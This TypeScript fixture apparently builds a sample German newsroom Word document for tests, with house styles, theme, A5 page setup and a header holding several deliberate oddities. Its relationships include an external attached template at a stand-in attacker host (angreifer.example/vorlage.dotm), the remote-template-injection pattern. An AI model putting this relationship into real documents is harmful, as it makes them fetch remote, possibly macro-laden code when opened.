import { strToU8, zipSync } from 'fflate';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packages = 'http://schemas.openxmlformats.org/package/2006';
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const namespaces = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}"
 xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"`;

/** A style as a German Word writes it: its id by its German name, its name in English. */
export const style = (id: string, name: string, more = '', type = 'paragraph', attributes = ''): string =>
  `<w:style w:type="${type}" w:styleId="${id}" ${attributes}><w:name w:val="${name}"/>${more}</w:style>`;

export const houseStyleXml = [
  `<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="21"/><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault>
<w:pPrDefault><w:pPr><w:spacing w:after="140" w:line="280" w:lineRule="auto"/></w:pPr></w:pPrDefault></w:docDefaults>`,
  '<w:latentStyles w:defLockedState="0" w:defUIPriority="99" w:defSemiHidden="0" w:defUnhideWhenUsed="0" w:defQFormat="0" w:count="376"><w:lsdException w:name="Normal" w:uiPriority="0" w:qFormat="1"/></w:latentStyles>',
  style(
    'Standard',
    'Normal',
    '<w:qFormat/><w:rPr><w:lang w:val="de-DE"/></w:rPr>',
    'paragraph',
    'w:default="1"',
  ),
  style(
    'Absatz-Standardschriftart',
    'Default Paragraph Font',
    '<w:semiHidden/>',
    'character',
    'w:default="1"',
  ),
  style('NormaleTabelle', 'Normal Table', '<w:tblPr/>', 'table', 'w:default="1"'),
  style(
    'Titel',
    'Title',
    '<w:basedOn w:val="Standard"/><w:next w:val="Vorspann1"/><w:link w:val="TitelZchn"/><w:qFormat/><w:pPr><w:numPr><w:numId w:val="7"/></w:numPr><w:spacing w:before="0" w:after="60"/></w:pPr><w:rPr><w:rFonts w:ascii="DejaVu Serif" w:hAnsi="DejaVu Serif"/><w:b/><w:vanish/><w:color w:val="0B5563" w:themeColor="accent1"/><w:sz w:val="60"/><w14:ligatures w14:val="standard"/></w:rPr>',
  ),
  style('TitelZchn', 'Titel Zchn', '<w:link w:val="Titel"/>', 'character', 'w:customStyle="1"'),
  style(
    'berschrift1',
    'heading 1',
    '<w:basedOn w:val="Standard"/><w:qFormat/><w:pPr><w:keepNext/><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:caps/><w:color w:val="C0392B"/></w:rPr>',
  ),
  style(
    'Vorspann1',
    'Lead',
    '<w:basedOn w:val="Grundlage"/><w:rPr><w:b/></w:rPr>',
    'paragraph',
    'w:customStyle="1"',
  ),
  style('Grundlage', 'Hausschrift', '<w:rPr><w:sz w:val="25"/></w:rPr>', 'paragraph', 'w:customStyle="1"'),
  style('Nachweis', 'Foto klein', '<w:aliases w:val="Fotozeile,Bildnachweis"/><w:basedOn w:val="Standard"/>'),
  style('Kicker', 'Kasten der Serie', '<w:basedOn w:val="weg"/>', 'paragraph', 'w:customStyle="1"'),
  style('Kopfzeile', 'header', '<w:basedOn w:val="Standard"/>'),
].join('');

const themeXml = `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${office}" name="Haus"><a:themeElements>
<a:clrScheme name="Haus"><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:sysClr val="window" lastClr="FFFFFF"/></a:lt1>${[
  'dk2',
  'lt2',
  'accent1',
  'accent2',
  'accent3',
  'accent4',
  'accent5',
  'accent6',
  'hlink',
  'folHlink',
]
  .map((name, index) => `<a:${name}><a:srgbClr val="0B55${60 + index}"/></a:${name}>`)
  .join('')}</a:clrScheme>
<a:fontScheme name="Haus"><a:majorFont><a:latin typeface="DejaVu Serif"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="DejaVu Sans"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>
<a:fmtScheme name="Haus"><a:fillStyleLst>${'<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'.repeat(3)}</a:fillStyleLst>
<a:lnStyleLst>${'<a:ln w="6350"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln>'.repeat(3)}</a:lnStyleLst>
<a:effectStyleLst>${'<a:effectStyle><a:effectLst/></a:effectStyle>'.repeat(3)}</a:effectStyleLst>
<a:bgFillStyleLst>${'<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'.repeat(2)}<a:blipFill><a:blip r:embed="rId1"/><a:tile/></a:blipFill></a:bgFillStyleLst></a:fmtScheme>
</a:themeElements></a:theme>`;

const field = (instruction: string): string =>
  [
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    `<w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r>`,
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>',
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
  ].join('');

export const headerXml = (inner: string): string =>
  `<w:hdr ${namespaces}><w:p><w:pPr><w:pStyle w:val="Kopfzeile"/><w:tabs><w:tab w:val="right" w:pos="6000"/></w:tabs></w:pPr>${inner}</w:p></w:hdr>`;

export const houseHead = [
  '<w:hyperlink r:id="rId9"><w:r><w:t>Seebote, Redaktion</w:t></w:r></w:hyperlink>',
  '<w:r><w:tab/><w:t>Seite </w:t></w:r>',
  field('PAGE'),
  '<w:r><w:drawing/></w:r><w:del w:id="1" w:author="x"><w:r><w:delText>alt</w:delText></w:r></w:del>',
].join('');

export const pageXml =
  '<w:pgSz w:w="8391" w:h="11906" w:code="11"/><w:pgMar w:top="1134" w:right="851" w:bottom="1134" w:left="851" w:header="567" w:footer="567" w:gutter="0"/><w:cols w:space="708"/><w:titlePg/><w:docGrid w:linePitch="360"/>';

export interface HouseDocument {
  readonly styles?: string | null;
  readonly head?: string;
  readonly section?: string;
  readonly mainType?: string;
  /** Other parts, or others in their place. */
  readonly parts?: Readonly<Record<string, Uint8Array>>;
}

/** A document of a newsroom as Word saves it: A5, with a head on its pages, and no head on the first. */
export function houseDocument(wanted: HouseDocument = {}): Uint8Array {
  const { styles = houseStyleXml, head = houseHead, section = pageXml, mainType, parts = {} } = wanted;
  const relation = (id: string, type: string, target: string, mode = '') =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}" ${mode}/>`;
  const relations = (...all: string[]) =>
    `<Relationships xmlns="${packages}/relationships">${all.join('')}</Relationships>`;
  const text = (xml: string) => strToU8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${xml}`);
  return zipSync({
    '[Content_Types].xml': text(
      `<Types xmlns="${packages}/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${mainType ?? `${word}.document.main+xml`}"/></Types>`,
    ),
    '_rels/.rels': text(relations(relation('rId1', 'officeDocument', 'word/document.xml'))),
    'word/document.xml': text(
      `<w:document ${namespaces}><w:body><w:p><w:r><w:t>Musterseite</w:t></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rId4"/>${section}</w:sectPr></w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': text(
      relations(
        relation('rId1', 'styles', 'styles.xml'),
        relation('rId2', 'settings', 'settings.xml'),
        relation('rId3', 'theme', 'theme/theme1.xml'),
        relation('rId4', 'header', 'header1.xml'),
        relation(
          'rId5',
          'attachedTemplate',
          'http://angreifer.example/vorlage.dotm',
          'TargetMode="External"',
        ),
      ),
    ),
    ...(styles === null ? {} : { 'word/styles.xml': text(`<w:styles ${namespaces}>${styles}</w:styles>`) }),
    'word/settings.xml': text(
      `<w:settings ${namespaces}><w:attachedTemplate r:id="rId1"/><w:mirrorMargins/><w:defaultTabStop w:val="708"/><w:autoHyphenation/><w:hyphenationZone w:val="425"/></w:settings>`,
    ),
    'word/theme/theme1.xml': text(themeXml),
    'word/header1.xml': text(headerXml(head)),
    ...parts,
  });
}
